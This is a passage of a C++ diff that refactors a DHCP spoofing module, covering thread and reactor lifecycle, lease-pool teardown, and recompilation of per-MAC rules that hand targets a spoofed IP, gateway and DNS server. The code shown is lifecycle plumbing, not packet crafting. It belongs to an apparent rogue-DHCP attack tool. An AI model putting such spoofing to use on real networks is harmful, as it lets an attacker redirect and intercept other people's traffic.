+
+    // Start the spoofing thread, unless the host's reactor serves us
+    if (server->attached) {
+        try {
+            if (server->own_reactor) {
+                g_dhcp_spoof_thread = new std::thread(dhcp_spoof_thread_func, server->reactor);
+            }
+            g_dhcp_server = server;
+            g_dhcp_spoof_active = true;
+            LOGD("DHCP spoofing started successfully");
+            return true;
+        } catch(const std::exception& e) {
+            LOGE("Failed to start DHCP spoofing thread: %s", e.what());
+        }
+    }
+    release_server(server);
+    std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+    dhcp_pool_destroy(g_dhcp_pool);
+    g_dhcp_pool = nullptr;
+    return false;
 }
 
 void dhcp_stop_spoofing() {
@@ -265,20 +652,24 @@ void dhcp_stop_spoofing() {
         return;
     }
     
-    g_stop_dhcp_spoofing = true;
-    
-    if(g_dhcp_socket >= 0) {
-        close(g_dhcp_socket);
-        g_dhcp_socket = -1;
-    }
-    
-    if(g_dhcp_spoof_thread && g_dhcp_spoof_thread->joinable()) {
-        g_dhcp_spoof_thread->join();
-        delete g_dhcp_spoof_thread;
-        g_dhcp_spoof_thread = nullptr;
+    // Wakes our reactor at once, or unhooks the socket from the host's
+    release_server(g_dhcp_server);
+    g_dhcp_server = nullptr;
+
+    {
+        // Flushes the lease journal
+        std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+        dhcp_pool_destroy(g_dhcp_pool);
+        g_dhcp_pool = nullptr;
     }
     
     g_dhcp_spoof_active = false;
+
+    // The handler is gone, so retired tables can no longer be in use
+    {
+        std::lock_guard<std::mutex> lock(g_dhcp_rules_mutex);
+        reclaim_locked(false);
+    }
     LOGD("DHCP spoofing stopped");
 }
 
@@ -294,6 +685,7 @@ void dhcp_add_rule(const char *target_mac, const char *spoofed_ip,
                 rule.gateway_ip = gateway_ip;
                 rule.subnet_mask = subnet_mask;
                 rule.dns_server = dns_server;
+                compile_rules();
                 LOGD("Updated DHCP spoofing rule for %s to %s", target_mac, spoofed_ip);
                 return;
             }
@@ -302,6 +694,7 @@ void dhcp_add_rule(const char *target_mac, const char *spoofed_ip,
         g_dhcp_rules.push_back({
             target_mac, spoofed_ip, gateway_ip, subnet_mask, dns_server
         });
+        compile_rules();
         LOGD("Added DHCP spoofing rule: %s -> %s", target_mac, spoofed_ip);
     }
 }
@@ -316,6 +709,7 @@ void dhcp_remove_rule(const char *target_mac) {
                           }),
             g_dhcp_rules.end()
         );
+        compile_rules();
         LOGD("Removed DHCP spoofing rule for %s", target_mac);
     }
 }
@@ -323,6 +717,7 @@ void dhcp_remove_rule(const char *target_mac) {
 void dhcp_clear_rules() {
     std::lock_guard<std::mutex> lock(g_dhcp_rules_mutex);
     g_dhcp_rules.clear();
+    compile_rules();
     LOGD("Cleared all DHCP spoofing rules");
 }
 